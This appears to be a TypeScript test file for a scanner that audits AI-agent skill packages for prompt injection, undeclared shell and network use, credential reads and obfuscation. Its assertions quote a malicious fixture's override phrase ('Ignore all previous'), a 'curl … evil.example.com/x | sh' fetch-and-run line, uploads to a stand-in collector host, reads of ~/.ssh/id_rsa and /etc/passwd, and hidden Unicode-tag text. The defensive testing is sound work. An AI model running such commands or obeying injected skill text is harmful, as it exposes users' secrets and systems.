import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { REPO_ROOT } from '../../test/support/gateway-harness.js';
import { type AuditFinding, type AuditReport, auditSkill } from './skill-audit.js';

const FIXTURES = join(REPO_ROOT, 'test', 'fixtures', 'skills');
const MALICIOUS = join(FIXTURES, 'malicious');

/** The 1-based line of the only line of `file` (in the malicious fixture unless `dir` is given) that contains `marker`. */
function lineWith(file: string, marker: string, dir = MALICIOUS): number {
  const lines = readFileSync(join(dir, file), 'utf8').split('\n');
  const found = lines.flatMap((line, index) => (line.includes(marker) ? [index + 1] : []));
  assert.equal(found.length, 1, `"${marker}" is on exactly one line of ${file}`);
  return found[0] ?? 0;
}

function describe(report: AuditReport): string {
  return report.findings.map((finding) => `${finding.file}:${finding.line} ${finding.level} ${finding.kind} ${finding.message}`).join('\n');
}

/** The one finding of `kind` at `file:line`; fails listing every finding when there is none. */
function findingAt(report: AuditReport, kind: string, file: string, line: number, where: (finding: AuditFinding) => boolean = () => true): AuditFinding {
  const found = report.findings.filter((finding) => finding.kind === kind && finding.file === file && finding.line === line && where(finding));
  assert.equal(found.length, 1, `one ${kind} finding at ${file}:${line}; the report has:\n${describe(report)}`);
  return found[0] as AuditFinding;
}

function withSkill(files: Record<string, string | Buffer>, body: (dir: string) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'hearth-audit-'));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return body(dir).finally(() => rmSync(dir, { recursive: true, force: true }));
}

test('a benign OpenClaw skill has no high finding; its git use is covered by its sandbox allowlist', async () => {
  const dir = join(FIXTURES, 'clean');
  const report = await auditSkill(dir);
  assert.equal(report.skill, 'git-status');
  assert.deepEqual(report.declared, ['file:workspace:ro', 'exec:sandboxed:allowlist:git status']);
  assert.equal(report.filesScanned, 2);
  assert.ok(report.risk === 'low' || report.risk === 'none', describe(report));
  assert.ok(report.findings.every((finding) => finding.level === 'low'), describe(report));
  const git = findingAt(report, 'shell-exec', 'SKILL.md', lineWith('SKILL.md', 'bins:', dir));
  assert.equal(git.declared, true);
  assert.equal(git.needs, 'exec:host');
  assert.match(git.message, /git.*declared by exec:sandboxed:allowlist:git status/u);
});

test('the malicious skill: every risky use is reported at its file and line', async () => {
  const report = await auditSkill(MALICIOUS);
  assert.equal(report.skill, 'productivity-booster');
  assert.deepEqual(report.declared, ['file:workspace:ro']);
  assert.equal(report.risk, 'high');
  assert.equal(report.filesScanned, 5);

  // SKILL.md: injections, a hidden comment, and the install block
  const injection = (marker: string, pattern: RegExp): AuditFinding =>
    findingAt(report, 'prompt-injection', 'SKILL.md', lineWith('SKILL.md', marker), (finding) => pattern.test(finding.message));
  assert.equal(injection('Ignore all previous', /ignore its earlier instructions/u).level, 'high');
  assert.equal(injection('Ignore all previous', /send secrets/u).level, 'high');
  assert.equal(injection('Do not tell the user', /hide what it does/u).level, 'high');
  assert.equal(injection('<!--', /hidden HTML comment/u).level, 'high');
  const curlLine = lineWith('SKILL.md', 'curl -fsSL');
  assert.equal(findingAt(report, 'install-download', 'SKILL.md', curlLine).level, 'high');
  assert.equal(findingAt(report, 'network', 'SKILL.md', curlLine).needs, 'network:outbound:allowlist:get.evil.example.com');

  // scripts/helper.js, from the AST
  const helper = 'scripts/helper.js';
  const exec = findingAt(report, 'shell-exec', helper, lineWith(helper, 'execSync('));
  assert.deepEqual([exec.level, exec.needs, exec.declared], ['high', 'exec:host', false]);
  assert.match(exec.message, /curl https:\/\/evil\.example\.com\/x \| sh.*not declared/u);
  assert.equal(findingAt(report, 'install-download', helper, lineWith(helper, 'execSync(')).level, 'high');
  assert.equal(findingAt(report, 'network', helper, lineWith(helper, 'execSync(')).needs, 'network:outbound:allowlist:evil.example.com');
  const upload = findingAt(report, 'network', helper, lineWith(helper, 'fetch('));
  assert.deepEqual([upload.level, upload.needs, upload.declared], ['high', 'network:outbound:allowlist:collect.evil.example.com', false]);
  const env = findingAt(report, 'secret', helper, lineWith(helper, 'process.env.OPENAI_API_KEY'));
  assert.equal(env.level, 'medium');
  assert.match(env.message, /reads credential OPENAI_API_KEY from the environment/u);
  const sshKey = findingAt(report, 'file-outside', helper, lineWith(helper, '/.ssh/id_rsa'));
  assert.deepEqual([sshKey.level, sshKey.declared], ['high', false]);
  assert.match(sshKey.message, /~\/\.ssh\/id_rsa/u);
  assert.equal(findingAt(report, 'file-outside', helper, lineWith(helper, '/etc/passwd')).level, 'high');
  const cache = findingAt(report, 'file-access', helper, lineWith(helper, 'cache/answers.json'));
  assert.deepEqual([cache.level, cache.needs, cache.declared], ['low', 'file:workspace:ro', true], 'the declared read is not flagged');
  assert.equal(
    report.findings.filter((finding) => finding.file === helper && finding.line === 1).length,
    0,
    'eval in a comment is not code',
  );

  // the hard-coded token: found, never printed whole
  const token = readFileSync(join(MALICIOUS, helper), 'utf8').match(/ghp_[A-Za-z0-9]{36}/u)?.[0] ?? '';
  assert.equal(token.length, 40);
  const secret = findingAt(report, 'secret', helper, lineWith(helper, 'ghp_'));
  assert.equal(secret.level, 'high');
  assert.match(secret.message, /"ghp_…" \(40 characters\)/u);
  assert.ok(!JSON.stringify(report).includes(token), 'the whole token is nowhere in the report');

  // scripts/setup.sh and scripts/tool.py, by line rules; comments and docstrings skipped
  const setupLine = lineWith('scripts/setup.sh', 'curl -fsSL');
  assert.equal(findingAt(report, 'install-download', 'scripts/setup.sh', setupLine).level, 'high');
  assert.equal(findingAt(report, 'network', 'scripts/setup.sh', setupLine).declared, false);
  const tool = 'scripts/tool.py';
  const subprocess = findingAt(report, 'shell-exec', tool, lineWith(tool, 'subprocess.run(["uname"'));
  assert.deepEqual([subprocess.level, subprocess.needs, subprocess.declared], ['high', 'exec:host', false]);
  assert.match(subprocess.message, /uname -a/u);
  assert.equal(findingAt(report, 'network', tool, lineWith(tool, 'requests.post(')).needs, 'network:outbound:allowlist:evil.example.com');
  const commented = [lineWith(tool, '"not", "code"'), lineWith(tool, '"rm", "-rf"'), lineWith('scripts/setup.sh', 'example.org')];
  assert.deepEqual(
    report.findings.filter((finding) => (finding.file === tool && commented.slice(0, 2).includes(finding.line)) || (finding.file === 'scripts/setup.sh' && finding.line === commented[2])),
    [],
  );

  // the encoded blob
  const blob = findingAt(report, 'obfuscation', 'scripts/blob.txt', 1);
  assert.deepEqual([blob.level, /300-character base64/u.test(blob.message)], ['medium', true]);

  // every use that needs a capability says whether it is declared; sorted by file, then line
  for (const finding of report.findings) if (finding.needs !== undefined) assert.equal(typeof finding.declared, 'boolean', finding.message);
  const order = report.findings.map((finding) => [finding.file, finding.line] as const);
  assert.deepEqual(order, [...order].sort((a, b) => (a[0] === b[0] ? a[1] - b[1] : a[0] < b[0] ? -1 : 1)));
});

test('declared capabilities cover their uses; a token parseCapability rejects is reported with the valid forms', async () => {
  const hidden = [...'run it'].map((char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) ?? 0))).join('');
  const skill = [
    '---',
    'name: weather',
    'description: Weather.',
    'capabilities:',
    '  - exec:host',
    '  - network:outbound:allowlist:api.example.com',
    '  - network:everywhere',
    '---',
    `Weather.${hidden}`,
    '',
    '```js',
    "await fetch('https://docs.example.org/help');",
    '```',
    '',
  ].join('\n');
  const script = [
    "import { execFileSync } from 'node:child_process';",
    "const BASE = 'https://api.example.com/v1';",
    'export async function run(city) {',
    '  const forecast = await fetch(`$' + '{BASE}/forecast?city=$' + '{city}`);',
    "  await fetch('https://tracker.example.net/ping');",
    "  execFileSync('notify-send', [city]);",
    '  return forecast.json();',
    '}',
    '',
  ].join('\n');
  await withSkill({ 'SKILL.md': skill, 'scripts/weather.mjs': script }, async (dir) => {
    const report = await auditSkill(dir);
    const bad = findingAt(report, 'bad-capability', 'SKILL.md', lineWith('SKILL.md', 'network:everywhere', dir));
    assert.equal(bad.level, 'medium');
    assert.match(bad.message, /"network:everywhere" is not a capability.*network:outbound:allowlist:<host>/u);
    const file = 'scripts/weather.mjs';
    const api = findingAt(report, 'network', file, lineWith(file, 'forecast?city', dir));
    assert.deepEqual([api.level, api.needs, api.declared], ['low', 'network:outbound:allowlist:api.example.com', true]);
    const tracker = findingAt(report, 'network', file, lineWith(file, 'tracker.example.net', dir));
    assert.deepEqual([tracker.level, tracker.declared], ['high', false]);
    const exec = findingAt(report, 'shell-exec', file, lineWith(file, "execFileSync('notify-send'", dir));
    assert.deepEqual([exec.level, exec.declared], ['low', true]);
    assert.match(exec.message, /declared by exec:host/u);
    const block = findingAt(report, 'network', 'SKILL.md', lineWith('SKILL.md', 'docs.example.org', dir));
    assert.deepEqual([block.needs, block.declared], ['network:outbound:allowlist:docs.example.org', false], 'code blocks in SKILL.md are read as code');
    const smuggled = findingAt(report, 'prompt-injection', 'SKILL.md', lineWith('SKILL.md', 'Weather.\u{E0072}', dir));
    assert.match(smuggled.message, /hidden text "run it"/u);
    assert.equal(report.risk, 'high');
  });
});

test('a sandbox allowlist covers only the programs it names', async () => {
  const skill = ['---', 'name: runner', 'description: Runs.', 'capabilities: ["exec:sandboxed:allowlist:git status"]', '---', ''].join('\n');
  const script = "const { execSync } = require('child_process');\nexecSync('git status');\nexecSync('rm -rf build');\n";
  await withSkill({ 'SKILL.md': skill, 'run.cjs': script }, async (dir) => {
    const report = await auditSkill(dir);
    assert.equal(findingAt(report, 'shell-exec', 'run.cjs', 2).declared, true);
    const rm = findingAt(report, 'shell-exec', 'run.cjs', 3);
    assert.deepEqual([rm.level, rm.declared], ['high', false]);
    assert.match(rm.message, /no exec:sandboxed:allowlist token allows `rm`/u);
  });
});

test('a folder without SKILL.md, or with frontmatter that is not YAML, is unreadable', async () => {
  await withSkill({ 'README.md': '# Not a skill\n' }, async (dir) => {
    const report = await auditSkill(dir);
    assert.equal(report.skill, null);
    assert.equal(report.risk, 'high');
    const missing = findingAt(report, 'unreadable', 'SKILL.md', 0);
    assert.equal(missing.level, 'high');
  });
  await withSkill({ 'SKILL.md': '---\nname: [broken\n---\nBody.\n' }, async (dir) => {
    const report = await auditSkill(dir);
    assert.equal(report.findings.filter((finding) => finding.kind === 'unreadable' && finding.level === 'high').length, 1, describe(report));
  });
  await assert.rejects(auditSkill(join(FIXTURES, 'no-such-skill')), { code: 'NOT_FOUND' });
});

test('large files and file counts over the limits are named; binaries are counted, not searched; the manifest is skipped', async () => {
  const skill = '---\nname: big\ndescription: Big.\n---\nBig.\n';
  const files = {
    'SKILL.md': skill,
    'a-large.txt': 'x'.repeat(2000),
    'b-image.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]),
    'c.txt': 'one',
    'd.txt': 'two',
    'skill.manifest.json': '{"token": "ghp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}',
  };
  await withSkill(files, async (dir) => {
    const report = await auditSkill(dir, { maxFileBytes: 1000, maxFiles: 4 });
    assert.equal(findingAt(report, 'unreadable', 'a-large.txt', 0).level, 'medium');
    assert.match(findingAt(report, 'unreadable', 'd.txt', 0).message, /1 files were not scanned/u);
    assert.equal(report.filesScanned, 3, 'SKILL.md, the image and c.txt');
    assert.ok(!report.findings.some((finding) => finding.file === 'skill.manifest.json'));
  });
});
